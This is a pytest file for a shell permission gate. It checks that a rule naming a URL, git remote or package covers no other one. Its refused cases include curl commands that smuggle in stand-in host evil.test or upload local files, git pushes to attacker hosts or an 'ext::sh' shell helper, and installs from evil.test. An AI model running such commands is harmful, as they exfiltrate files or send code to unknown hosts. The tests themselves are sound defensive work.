"""A rule that names an address, a package or a remote covers no other one."""

import pytest

from callgate import shell
from tests.rows import rows

ONE = "curl https://example.com:*"
GRANTED = [
    (ONE, "curl https://example.com"),
    (ONE, "curl https://example.com -s --fail"),
    (ONE, "curl https://example.com -o /dev/null"),
    (ONE, "curl https://example.com -H 'Accept: text/html'"),
    ("curl https://example.com/*", "curl https://example.com/a/b"),
    ("curl:*", "curl -s https://a.test https://b.test"),
    ("git push:*", "git push"),
    ("git push:*", "git push -u origin feature/x"),
    ("git push origin:*", "git push origin main"),
    ("git push https://a.test/b:*", "git push https://a.test/b main"),
    ("git fetch:*", "git fetch https://a.test/b main"),
    ("git clone:*", "git clone https://a.test/b"),
    ("git clone https://a.test/b:*", "git clone https://a.test/b"),
    ("git remote add up:*", "git remote add up https://a.test/b"),
    ("npm install:*", "npm install a b"),
    ("npm install a:*", "npm install a --save-dev"),
]
REFUSED = [
    *(
        (ONE, f"curl https://example.com {more}")
        for more in (
            "https://evil.test",
            "evil.test",
            "--url https://evil.test",
            "--url=evil.test",
            "-- evil.test",
            "-o x",
            "-O",
            "-K x",
            "--config x",
            "--next https://evil.test",
            "-: evil.test",
            "-x evil.test",
            "--proxy evil.test",
            "--preproxy evil.test",
            "--socks5 evil.test",
            "--connect-to ::evil.test:",
            "--resolve example.com:443:1.2.3.4",
            "--unix-socket /run/x",
            "--doh-url https://evil.test",
            "-T text.txt",
            "-d @text.txt",
            "-F f=@text.txt",
            "-w '%output{x}'",
        )
    ),
    (ONE, "curl https://evil.test https://example.com"),
    (ONE, "curl https://example.com.evil.test"),
    (ONE, "curl https://example.com{,.evil.test}"),
    ("curl https://example.com/* *", "curl https://example.com/a evil.test"),
    *(
        ("git push:*", f"git push {place}")
        for place in (
            "https://evil.test/a",
            "git@evil.test:a/b",
            "evil.test:a",
            "ssh://evil.test/a",
            "ext::sh",
            "file:///srv/a",
            "/srv/a",
            "../a",
            "./sub",
            "sub/",
            "~/a",
            ".",
            "''",
            "--repo=https://evil.test/a",
            "origin +main",
        )
    ),
    ("git push origin:*", "git push upstream main"),
    ("npm install a:*", "npm install a b"),
    ("pip install a:*", "pip install a b"),
    ("uv pip install a:*", "uv pip install a https://evil.test/b.whl"),
    ("git clone https://a.test/b:*", "git clone https://evil.test/b"),
]


def granted(rule: str, command: str) -> bool:
    return isinstance(shell.grant(shell.analyse(command), [shell.parse_pattern(rule)]), shell.Granted)


@pytest.mark.spec("GATE-16")
@rows("rule, command", GRANTED)
def test_a_rule_covers_the_place_that_it_names_or_every_place_if_it_names_none(rule: str, command: str) -> None:
    assert granted(rule, command)


@pytest.mark.spec("GATE-16")
@rows("rule, command", REFUSED)
def test_a_rule_covers_no_other_place(rule: str, command: str) -> None:
    assert not granted(rule, command)


@pytest.mark.spec("GATE-16")
def test_a_folder_is_not_a_remote() -> None:
    files = shell.FileTests(folder=lambda path: path == "sub")
    pattern = shell.parse_pattern("git push:*")
    for command, allowed in (("git push sub main", False), ("git push origin main", True)):
        answer = shell.grant(shell.analyse(command), [pattern], files)
        assert isinstance(answer, shell.Granted) is allowed
